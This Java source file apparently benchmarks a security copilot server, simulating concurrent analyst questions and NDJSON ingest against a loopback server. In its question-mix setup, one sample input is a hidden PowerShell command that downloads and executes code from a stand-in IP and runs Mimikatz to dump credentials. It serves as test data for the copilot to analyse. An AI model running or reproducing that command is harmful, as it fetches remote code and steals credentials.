package dev.vigil.bench;

import static java.util.Objects.requireNonNull;

import dev.vigil.config.VigilConfig;
import dev.vigil.copilot.promptbook.Promptbook;
import dev.vigil.copilot.promptbook.Promptbooks;
import dev.vigil.model.Role;
import dev.vigil.model.TenantId;
import dev.vigil.server.ApiTokens;
import dev.vigil.server.VigilServer;
import dev.vigil.store.TenantStore;
import java.io.IOException;
import java.lang.management.ManagementFactory;
import java.net.URI;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.net.http.HttpTimeoutException;
import java.time.Duration;
import java.time.Instant;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.Collections;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.concurrent.ConcurrentLinkedQueue;
import java.util.concurrent.ExecutorService;
import java.util.concurrent.Executors;
import java.util.concurrent.atomic.AtomicBoolean;
import java.util.concurrent.atomic.AtomicLong;
import java.util.function.Consumer;
import java.util.stream.Stream;
import tools.jackson.databind.JsonNode;
import tools.jackson.databind.json.JsonMapper;

/**
 * The server under load ({@code vigil bench server-load}): a real {@link VigilServer} on a free loopback port over a
 * seeded tenant, asked questions by simulated analysts over {@code /copilot/ask} and {@code /copilot/ask/stream}
 * while an ingest driver sends NDJSON batches to {@code /ingest} at a target rate, all through the JDK
 * {@link HttpClient} with the tokens the server's own {@link ApiTokens} issue.
 *
 * <p>It runs in two phases over the same server. <b>Idle</b>, the baseline: one analyst, no ingest, asks the
 * question mix once (after a few warm-up questions that build the copilot's shared state). <b>Loaded</b>:
 * {@link Options#users} analysts, each in sessions of its own and starting at a different place in the mix, ask
 * without pause (or with {@link Options#thinkTime}) while the ingest driver paces batches with a {@link TokenBucket}
 * to {@link Options#ingestRate} events per second. An ingest answer of 429 is backpressure, not an error: the driver
 * waits its {@code Retry-After} and sends the same batch again, as a log shipper would, and counts it apart.
 *
 * <p>An error is anything else that is not a good answer: a status other than 2xx (and 429 on ingest), a timeout
 * or broken connection, an answer without its markdown or plan or session, a stream without its {@code answer} and
 * {@code done} events or with an {@code error} event, an ingest answer that does not account for every record sent.
 * After the server is closed the benchmark also counts the tenant's stored events, which must have grown by exactly
 * the records the ingest answers reported as newly stored (a record is acknowledged only once it is durable).
 */
public final class ServerLoadBenchmark {
    private static final JsonMapper JSON = JsonMapper.builder().build();
    /** Questions asked before the idle phase, uncounted: the first builds the copilot's shared state. */
    static final int WARM_UP = 3;
    /** Errors kept word for word in the report; all are counted. */
    static final int ERROR_SAMPLES = 10;
    /** Ingest at no less than this share of its target rate counts as sustained. */
    static final double SUSTAINED = 0.98;

    /**
     * What to run.
     *
     * @param duration          how long the loaded phase asks and ingests
     * @param users             analysts asking at once in the loaded phase (0: ingest alone, to find its ceiling)
     * @param ingestRate        events per second the ingest driver aims at (0: no ingest, to measure the asks alone)
     * @param batchSize         records per ingest request
     * @param ingestSenders     ingest requests in flight at once (the server takes {@code
     *                          server.ingest.concurrent-requests}, 4 by default, and answers 429 beyond)
     * @param thinkTime         an analyst's pause after each answer
     * @param streamEvery       every n-th question of an analyst is asked over the SSE stream (0: none)
     * @param baselineQuestions questions of the mix the idle phase asks (at most the mix's size)
     * @param requestTimeout    longest wait for one answer; a longer one is an error
     */
    public record Options(Duration duration, int users, int ingestRate, int batchSize, int ingestSenders,
            Duration thinkTime, int streamEvery, int baselineQuestions, Duration requestTimeout) {
        public Options {
            requireNonNull(duration, "duration is null");
            requireNonNull(thinkTime, "thinkTime is null");
            requireNonNull(requestTimeout, "requestTimeout is null");
            if (duration.isNegative() || duration.isZero() || users < 0 || ingestRate < 0 || batchSize < 1
                    || ingestSenders < 1 || thinkTime.isNegative() || streamEvery < 0 || baselineQuestions < 1
                    || requestTimeout.isNegative() || requestTimeout.isZero()) {
                throw new IllegalArgumentException("the load benchmark needs a positive duration, batch size,"
                        + " senders, baseline questions and timeout, and users, a rate, think time and stream share of"
                        + " at least 0: " + duration + ", " + users + ", " + batchSize + ", " + ingestSenders + ", "
                        + baselineQuestions + ", " + requestTimeout + ", " + ingestRate + ", " + thinkTime + ", "
                        + streamEvery);
            }
        }

        /** The load: 60 s, 50 analysts, 20,000 events/s in batches of 2,000 from 4 senders, no think time. */
        public static Options defaults() {
            return new Options(Duration.ofSeconds(60), 50, 20_000, 2_000, 4, Duration.ZERO, 4, Integer.MAX_VALUE,
                    Duration.ofSeconds(120));
        }
    }

    /** Latency percentiles in milliseconds (nearest rank). */
    public record Latency(long count, double p50, double p90, double p95, double p99, double max) {
        static final Latency NONE = new Latency(0, 0, 0, 0, 0, 0);

        static Latency of(List<Double> millis) {
            if (millis.isEmpty()) {
                return NONE;
            }
            double[] sorted = millis.stream().mapToDouble(Double::doubleValue).toArray();
            Arrays.sort(sorted);
            return new Latency(sorted.length, rank(sorted, 0.50), rank(sorted, 0.90), rank(sorted, 0.95),
                    rank(sorted, 0.99), sorted[sorted.length - 1]);
        }

        /** The nearest-rank percentile: the smallest value with at least {@code q} of the values at or below it. */
        static double rank(double[] sorted, double q) {
            int rank = (int) Math.ceil(q * sorted.length);
            return sorted[Math.max(0, Math.min(sorted.length - 1, rank - 1))];
        }
    }

    /**
     * A phase's questions: how many were asked and answered, the errors, and the latency of the good answers.
     *
     * @param cpuSeconds the CPU time this process (server and load driver together) used during the phase: on a
     *                   machine shared with other work, what the phase was given, whatever the wall clock says
     */
    public record Asking(int users, long asked, long answered, long streamed, long errors, double seconds,
            double answersPerSecond, Latency latency, Latency streamLatency, double cpuSeconds) {}

    /** The ingest driver's figures over the loaded phase. */
    public record Ingest(long targetPerSecond, int batchSize, int senders, long requests, long acknowledged,
            long storedNew, long quarantined, double seconds, double achievedPerSecond, boolean sustained,
            long throttled, long errors, Latency requestLatency) {}

    /**
     * The whole run.
     *
     * @param errors       errors of both phases and the ingest driver together: the bar is zero
     * @param storedBefore the tenant's events before the run
     * @param storedAfter  the tenant's events after the server closed: {@code storedBefore + ingest.storedNew} when
     *                     every acknowledged record is durable
     */
    public record Report(String tenant, Options options, int cores, String java, double loadAverageBefore,
            double loadAverageAfter, int questionMix, Asking idle, Asking loaded, Ingest ingest, double p50Ratio,
            double p95Ratio, double p99Ratio, long errors, List<String> errorSamples, long storedBefore,
            long storedAfter, boolean storedMatches) {}

    /** One question of the mix; the first question of a promptbook starts a new session. */
    record Question(String prompt, boolean newSession) {}

    private ServerLoadBenchmark() {}

    /**
     * The question mix: each built-in promptbook's prompts in order (a new session each, with inputs naming the
     * demo's incident, users, hosts and public CVEs, actors and articles), each followed in the same session by five
     * of the copilot benchmark's single-skill questions, so every one of those is asked once per pass.
     */
    static List<Question> mix() {
        Map<String, String> inputs = Map.of("IncidentId", "2", "User", "jamal.novak", "CVE", "CVE-2024-3400",
                "Actor", "APT29", "Script", "powershell.exe -nop -w hidden -c \"IEX (New-Object Net.WebClient)"
                        .concat(".DownloadString('https://198.51.100.23/a')\"; Invoke-Mimikatz -DumpCreds"),
                "Article", "Attackers exploited CVE-2024-3400 in PAN-OS GlobalProtect and staged payloads on"
                        .concat(" 198.51.100.23 and update-check.example.net; the loader reached out to")
                        .concat(" 203.0.113.50 over HTTPS."));
        List<CopilotBenchmark.Question> eval = CopilotBenchmark.questions();
        List<Promptbook> books = Promptbooks.builtIn();
        int perBook = (int) Math.ceil(eval.size() / (double) books.size());
        List<Question> mix = new ArrayList<>();
        int next = 0;
        for (Promptbook book : books) {
            Map<String, String> values = new LinkedHashMap<>();
            book.inputs().forEach(input -> values.put(input.name(), inputs.getOrDefault(input.name(), "2")));
            List<String> prompts = book.instantiate(values);
            for (int i = 0; i < prompts.size(); i++) {
                mix.add(new Question(prompts.get(i), i == 0));
            }
            for (int i = 0; i < perBook && next < eval.size(); i++) {
                mix.add(new Question(eval.get(next++).text(), false));
            }
        }
        return List.copyOf(mix);
    }

    /**
     * Runs both phases against a server started over {@code config}'s data directory, whose {@code tenant} is
     * seeded; the caller must not hold its store open. Tokens made for the run are revoked at its end.
     *
     * @param now      the instant the questions are asked at ("yesterday" means the day before it); the ingested
     *                 records lie in the hour before it
     * @param progress told about each phase, and every 5 s of the loaded phase
     */
    public static Report run(VigilConfig config, TenantId tenant, Instant now, Options options,
            Consumer<String> progress) throws InterruptedException {
        requireNonNull(config, "config is null");
        requireNonNull(tenant, "tenant is null");
        requireNonNull(progress, "progress is null");
        List<Question> mix = mix();
        long storedBefore = stored(config, tenant);
        double loadBefore = loadAverage();
        ApiTokens tokens = ApiTokens.in(config.dataDirectory());
        List<String> issued = new ArrayList<>();
        Errors errors = new Errors();
        Asking idle;
        Asking loaded;
        Ingest ingest;
        try (VigilServer server = VigilServer.start(config, "127.0.0.1", 0);
                ExecutorService threads = Executors.newVirtualThreadPerTaskExecutor();
                HttpClient http = HttpClient.newBuilder().version(HttpClient.Version.HTTP_1_1)
                        .connectTimeout(Duration.ofSeconds(10)).executor(threads).build()) {
            URI base = URI.create("http://127.0.0.1:" + server.port() + "/api/v1/tenants/" + tenant.value());
            Instant issuedAt = Instant.now();
            List<String> analysts = new ArrayList<>();
            for (int i = 0; i <= options.users(); i++) { // analyst 0 asks the idle phase
                ApiTokens.Created created = tokens.create(tenant, Role.ANALYST, "load-analyst-" + i,
                        Duration.ofHours(6), issuedAt);
                issued.add(created.record().id());
                analysts.add(created.token());
            }
            ApiTokens.Created ingestToken = tokens.create(tenant, Role.INGEST, "load-ingest", Duration.ofHours(6),
                    issuedAt);
            issued.add(ingestToken.record().id());
            Client client = new Client(http, base, now, options.requestTimeout());

            progress.accept(String.format(Locale.ROOT, "server on port %d; warming up with %d questions...",
                    server.port(), WARM_UP));
            Analyst warmUp = new Analyst(client, analysts.get(0), mix, 0, 0, Duration.ZERO, new Errors());
            for (int i = 0; i < WARM_UP; i++) {
                warmUp.askNext();
            }
            int baseline = Math.min(options.baselineQuestions(), mix.size());
            progress.accept("idle baseline: one analyst asks " + baseline + " questions, no ingest...");
            Analyst alone = new Analyst(client, analysts.get(0), mix, 0, options.streamEvery(), Duration.ZERO,
                    errors);
            long idleStart = System.nanoTime();
            long idleCpu = processCpuNanos();
            for (int i = 0; i < baseline; i++) {
                alone.askNext();
            }
            idle = asking(List.of(alone), System.nanoTime() - idleStart, processCpuNanos() - idleCpu);
            progress.accept(String.format(Locale.ROOT, "idle: %d answered, p50 %.1f ms, p95 %.1f ms",
                    idle.answered(), idle.latency().p50(), idle.latency().p95()));

            progress.accept(String.format(Locale.ROOT, "loaded: %d analysts for %d s while ingesting %,d events/s...",
                    options.users(), options.duration().toSeconds(), options.ingestRate()));
            long start = System.nanoTime();
            long startCpu = processCpuNanos();
            long deadline = start + options.duration().toNanos();
            IngestDriver driver = new IngestDriver(http, base.resolve(base.getPath() + "/ingest"),
                    ingestToken.token(), options, new LoadRecords(now), deadline, errors);
            List<Analyst> crowd = new ArrayList<>();
            for (int i = 1; i <= options.users(); i++) {
                crowd.add(new Analyst(client, analysts.get(i), mix, (i - 1) * mix.size() / options.users(),
                        options.streamEvery(), options.thinkTime(), errors));
            }
            List<java.util.concurrent.Future<?>> running = new ArrayList<>();
            if (options.ingestRate() > 0) {
                for (int i = 0; i < options.ingestSenders(); i++) {
                    running.add(threads.submit(driver::send));
                }
            }
            for (Analyst analyst : crowd) {
                running.add(threads.submit(() -> {
                    while (System.nanoTime() < deadline) {
                        analyst.askNext();
                    }
                }));
            }
            AtomicBoolean finished = new AtomicBoolean();
            Thread reporter = Thread.ofVirtual().start(() -> report(progress, crowd, driver, errors, start, finished));
            for (var task : running) {
                try {
                    task.get();
                } catch (java.util.concurrent.ExecutionException e) {
                    errors.add("a load thread failed: " + e.getCause());
                }
            }
            long elapsed = System.nanoTime() - start;
            finished.set(true);
            reporter.interrupt();
            reporter.join();
            loaded = asking(crowd, elapsed, processCpuNanos() - startCpu);
            ingest = driver.figures(options.ingestRate() > 0 && driver.span(start) > 0 ? driver.span(start) : elapsed);
        } finally {
            Instant revokedAt = Instant.now();
            for (String id : issued) {
                tokens.revoke(id, revokedAt);
            }
        }
        long storedAfter = stored(config, tenant);
        List<String> samples = errors.samples();
        return new Report(tenant.value(), options, Runtime.getRuntime().availableProcessors(),
                Runtime.version().toString(), loadBefore, loadAverage(), mix.size(), idle, loaded, ingest,
                ratio(loaded.latency().p50(), idle.latency().p50()), ratio(loaded.latency().p95(),
                idle.latency().p95()), ratio(loaded.latency().p99(), idle.latency().p99()), errors.count(), samples,
                storedBefore, storedAfter, storedAfter - storedBefore == ingest.storedNew());
    }

    private static void report(Consumer<String> progress, List<Analyst> crowd, IngestDriver driver, Errors errors,
            long start, AtomicBoolean finished) {
        long last = 0;
        while (!finished.get()) {
            try {
                Thread.sleep(5_000);
            } catch (InterruptedException e) {
                return;
            }
            long answered = crowd.stream().mapToLong(a -> a.answered.size()).sum();
            double seconds = (System.nanoTime() - start) / 1e9;
            long acknowledged = driver.acknowledged.get();
            progress.accept(String.format(Locale.ROOT, "%4.0f s: %,d answered, %d errors, ingest %,d events"
                    + " (%,.0f/s overall, %,.0f/s in the last 5 s), %d x 429", seconds, answered, errors.count(),
                    acknowledged, acknowledged / seconds, (acknowledged - last) / 5.0, driver.throttled.get()));
            last = acknowledged;
        }
    }

    private static double ratio(double loaded, double idle) {
        return idle == 0 ? 0 : loaded / idle;
    }

    private static Asking asking(List<Analyst> analysts, long nanos, long cpuNanos) {
        List<Double> all = new ArrayList<>();
        List<Double> streamed = new ArrayList<>();
        long asked = 0;
        long errors = 0;
        for (Analyst analyst : analysts) {
            all.addAll(analyst.answered);
            streamed.addAll(analyst.streamed);
            asked += analyst.asked;
            errors += analyst.failed;
        }
        double seconds = nanos / 1e9;
        return new Asking(analysts.size(), asked, all.size(), streamed.size(), errors, seconds,
                seconds == 0 ? 0 : all.size() / seconds, Latency.of(all), Latency.of(streamed), cpuNanos / 1e9);
    }

    /** The events of the tenant's store (its store must not be open elsewhere). */
    private static long stored(VigilConfig config, TenantId tenant) {
        if (!TenantStore.exists(config.dataDirectory(), tenant)) {
            return 0;
        }
        try (TenantStore store = TenantStore.open(config.dataDirectory(), tenant, TenantStore.Mode.READ_ONLY)) {
            return CopilotBenchmark.tables(store).values().stream().mapToLong(Long::longValue).sum();
        }
    }

    /** The CPU time this process has used, or 0 where the platform does not tell. */
    static long processCpuNanos() {
        return ManagementFactory.getOperatingSystemMXBean() instanceof com.sun.management.OperatingSystemMXBean os
                ? Math.max(0, os.getProcessCpuTime()) : 0;
    }

    /** The system's load average over the last minute, or -1 where the platform has none. */
    static double loadAverage() {
        return ManagementFactory.getOperatingSystemMXBean().getSystemLoadAverage();
    }

    /** The report as text: the settings, the two phases side by side with their ratio, the ingest, the errors. */
    public static String text(Report r) {
        Options o = r.options();
        StringBuilder out = new StringBuilder();
        String ingesting = o.ingestRate() == 0 ? "with no ingest" : String.format(Locale.ROOT, "while ingesting %,d"
                + " events/s in batches of %,d from %d senders", o.ingestRate(), o.batchSize(), o.ingestSenders());
        out.append(String.format(Locale.ROOT, "Server load on tenant '%s': %d analysts for %d s (think time %d ms,"
                + " every %s question streamed) %s; %d cores, Java %s, load average %.1f before and %.1f after%n%n",
                r.tenant(), o.users(), o.duration().toSeconds(), o.thinkTime().toMillis(), o.streamEvery() == 0 ? "no"
                : ordinal(o.streamEvery()), ingesting, r.cores(), r.java(), r.loadAverageBefore(),
                r.loadAverageAfter()));
        out.append(String.format(Locale.ROOT, "%-32s %7s %7s %9s %9s %9s %9s %9s %8s%n", "asking", "answers",
                "errors", "p50 ms", "p90 ms", "p95 ms", "p99 ms", "max ms", "answers/s"));
        row(out, "idle: 1 analyst, no ingest", r.idle().answered(), r.idle().errors(), r.idle().latency(),
                r.idle().answersPerSecond());
        row(out, "loaded: " + o.users() + " analysts" + (o.ingestRate() > 0 ? " + ingest" : ""), r.loaded().answered(), r.loaded().errors(),
                r.loaded().latency(), r.loaded().answersPerSecond());
        row(out, "  of which over the stream", r.loaded().streamed(), 0, r.loaded().streamLatency(), Double.NaN);
        out.append(String.format(Locale.ROOT, "%-32s %7s %7s %9.1f %9s %9.1f %9.1f%n", "loaded / idle", "", "",
                r.p50Ratio(), "", r.p95Ratio(), r.p99Ratio()));
        Ingest i = r.ingest();
        if (i.targetPerSecond() == 0) {
            out.append(String.format(Locale.ROOT, "%ningest: none (--ingest-rate 0)%n"));
        } else {
            Latency l = i.requestLatency();
            out.append(String.format(Locale.ROOT, "%ningest: %,d events acknowledged in %,d requests over %.1f s:"
                    + " %,.0f events/s of the %,d targeted (%.0f%%): %s; %d x 429 (backpressure, sent again),"
                    + " %d errors, %d quarantined%n", i.acknowledged(), i.requests(), i.seconds(),
                    i.achievedPerSecond(), i.targetPerSecond(), 100 * i.achievedPerSecond() / i.targetPerSecond(),
                    i.sustained() ? "sustained" : "NOT sustained", i.throttled(), i.errors(), i.quarantined()));
            out.append(String.format(Locale.ROOT, "ingest request latency: p50 %.1f ms, p90 %.1f, p95 %.1f, p99 %.1f,"
                    + " max %.1f (%d requests)%n", l.p50(), l.p90(), l.p95(), l.p99(), l.max(), l.count()));
        }
        out.append(String.format(Locale.ROOT, "process CPU (server and load driver): idle %.1f s over %.1f s (%.2f of"
                + " %d cores), loaded %.1f s over %.1f s (%.2f cores)%s%n", r.idle().cpuSeconds(), r.idle().seconds(),
                share(r.idle()), r.cores(), r.loaded().cpuSeconds(), r.loaded().seconds(), share(r.loaded()),
                i.targetPerSecond() == 0 || r.loaded().cpuSeconds() == 0 ? "" : String.format(Locale.ROOT,
                        "; %,.0f events acknowledged per CPU second", i.acknowledged() / r.loaded().cpuSeconds())));
        out.append(String.format(Locale.ROOT, "stored events: %,d before, %,d after (%,d newly stored"
                + " acknowledged): %s%n", r.storedBefore(), r.storedAfter(), i.storedNew(), r.storedMatches()
                ? "every acknowledged record is in the store" : "MISMATCH"));
        out.append(String.format(Locale.ROOT, "%nerrors: %d%s%n", r.errors(), r.errors() == 0 ? " (the bar)" : ""));
        r.errorSamples().forEach(e -> out.append("- ").append(e).append('\n'));
        return out.toString();
    }

    private static double share(Asking phase) {
        return phase.seconds() == 0 ? 0 : phase.cpuSeconds() / phase.seconds();
    }

    private static String ordinal(int n) {
        return n == 1 ? "" : n == 2 ? "2nd" : n == 3 ? "3rd" : n + "th";
    }

    private static void row(StringBuilder out, String name, long answers, long errors, Latency l, double rate) {
        out.append(String.format(Locale.ROOT, "%-32s %,7d %7d %9.1f %9.1f %9.1f %9.1f %9.1f %8s%n", name, answers,
                errors, l.p50(), l.p90(), l.p95(), l.p99(), l.max(), Double.isNaN(rate) ? "" : String.format(
                Locale.ROOT, "%.1f", rate)));
    }

    // --- the clients ----------------------------------------------------------------------------------------------

    /** The errors of a run: all counted, the first few kept word for word. Thread-safe. */
    static final class Errors {
        private final AtomicLong count = new AtomicLong();
        private final ConcurrentLinkedQueue<String> samples = new ConcurrentLinkedQueue<>();

        void add(String message) {
            if (count.incrementAndGet() <= ERROR_SAMPLES) {
                samples.add(message);
            }
        }

        long count() {
            return count.get();
        }

        List<String> samples() {
            return List.copyOf(samples);
        }
    }

    /** A good answer: the session it was recorded in. */
    private record Answered(String session) {}

    /** Asks the copilot over HTTP and checks each answer; an answer that is not good throws {@link Bad}. */
    private static final class Client {
        private final HttpClient http;
        private final URI ask;
        private final URI stream;
        private final String now;
        private final Duration timeout;

        Client(HttpClient http, URI base, Instant now, Duration timeout) {
            this.http = http;
            this.ask = URI.create(base + "/copilot/ask");
            this.stream = URI.create(base + "/copilot/ask/stream");
            this.now = now.toString();
            this.timeout = timeout;
        }

        Answered ask(String token, String prompt, String session, boolean streamed) throws Bad, InterruptedException {
            Map<String, String> body = new LinkedHashMap<>();
            body.put("prompt", prompt);
            body.put("session", session);
            body.put("now", now);
            body.put("zone", "UTC");
            HttpRequest request = HttpRequest.newBuilder(streamed ? stream : ask).timeout(timeout)
                    .header("Authorization", "Bearer " + token).header("Content-Type", "application/json")
                    .header("Accept", streamed ? "text/event-stream" : "application/json")
                    .POST(HttpRequest.BodyPublishers.ofString(JSON.writeValueAsString(body))).build();
            try {
                if (!streamed) {
                    HttpResponse<String> response = http.send(request, HttpResponse.BodyHandlers.ofString());
                    if (response.statusCode() != 200) {
                        throw new Bad("ask '" + prompt + "': HTTP " + response.statusCode() + " " + cut(response.body()));
                    }
                    return answer(prompt, JSON.readTree(response.body()));
                }
                HttpResponse<Stream<String>> response = http.send(request, HttpResponse.BodyHandlers.ofLines());
                if (response.statusCode() != 200) {
                    String text;
                    try (Stream<String> lines = response.body()) {
                        text = String.join("\n", lines.toList());
                    }
                    throw new Bad("ask/stream '" + prompt + "': HTTP " + response.statusCode() + " " + cut(text));
                }
                List<String> events = new ArrayList<>();
                JsonNode answer = null;
                String event = "";
                try (Stream<String> lines = response.body()) {
                    for (String line : (Iterable<String>) lines::iterator) {
                        if (line.startsWith("event: ")) {
                            event = line.substring(7).strip();
                            events.add(event);
                        } else if (line.startsWith("data: ") && event.equals("answer")) {
                            answer = JSON.readTree(line.substring(6));
                        } else if (line.startsWith("data: ") && event.equals("error")) {
                            throw new Bad("ask/stream '" + prompt + "': error event " + cut(line.substring(6)));
                        }
                    }
                }
                if (answer == null || events.isEmpty() || !events.getLast().equals("done")
                        || !events.getFirst().equals("plan")) {
                    throw new Bad("ask/stream '" + prompt + "': the stream's events were " + events
                            + ", not plan ... answer, done");
                }
                return answer(prompt, answer);
            } catch (HttpTimeoutException e) {
                throw new Bad("ask '" + prompt + "': no answer within " + timeout.toSeconds() + " s");
            } catch (IOException | tools.jackson.core.JacksonException e) {
                throw new Bad("ask '" + prompt + "': " + e);
            }
        }

        private static Answered answer(String prompt, JsonNode json) throws Bad {
            if (!json.path("markdown").isString() || json.path("markdown").asString().isBlank()
                    || !json.path("plan").isObject() || !json.path("session").isString()) {
                throw new Bad("ask '" + prompt + "': an answer without its markdown, plan or session: "
                        + cut(json.toString()));
            }
            return new Answered(json.path("session").asString());
        }
    }

    /** An answer that is not a good one. */
    private static final class Bad extends Exception {
        Bad(String message) {
            super(message, null, false, false);
        }
    }

    static String cut(String text) {
        String flat = text == null ? "" : text.replaceAll("\\s+", " ");
        return flat.length() > 300 ? flat.substring(0, 300) + "..." : flat;
    }

    /**
     * One analyst: asks the mix in order from its own place in it, in a new session at each promptbook's first
     * prompt, every {@code streamEvery}-th question over the stream. Confined to its thread; its figures are read
     * once it stopped (the progress line reads the size of {@code answered}, a list that only grows).
     */
    private static final class Analyst {
        private final Client client;
        private final String token;
        private final List<Question> mix;
        private final int streamEvery;
        private final Duration thinkTime;
        private final Errors sink;
        final List<Double> answered = Collections.synchronizedList(new ArrayList<>());
        final List<Double> streamed = new ArrayList<>();
        long asked;
        long failed;
        private int next;
        private String session = "new";

        Analyst(Client client, String token, List<Question> mix, int start, int streamEvery, Duration thinkTime,
                Errors errors) {
            this.client = client;
            this.token = token;
            this.mix = mix;
            this.next = start;
            this.streamEvery = streamEvery;
            this.thinkTime = thinkTime;
            this.sink = errors;
        }

        void askNext() {
            Question question = mix.get(next++ % mix.size());
            if (question.newSession()) {
                session = "new";
            }
            asked++;
            boolean overStream = streamEvery > 0 && asked % streamEvery == 0;
            long start = System.nanoTime();
            try {
                Answered answer = client.ask(token, question.prompt(), session, overStream);
                double millis = (System.nanoTime() - start) / 1e6;
                answered.add(millis);
                if (overStream) {
                    streamed.add(millis);
                }
                session = answer.session();
            } catch (Bad e) {
                failed++;
                sink.add(e.getMessage());
            } catch (InterruptedException e) {
                Thread.currentThread().interrupt();
                throw new IllegalStateException("interrupted while asking", e);
            }
            if (!thinkTime.isZero()) {
                try {
                    Thread.sleep(thinkTime);
                } catch (InterruptedException e) {
                    Thread.currentThread().interrupt();
                }
            }
        }
    }
}
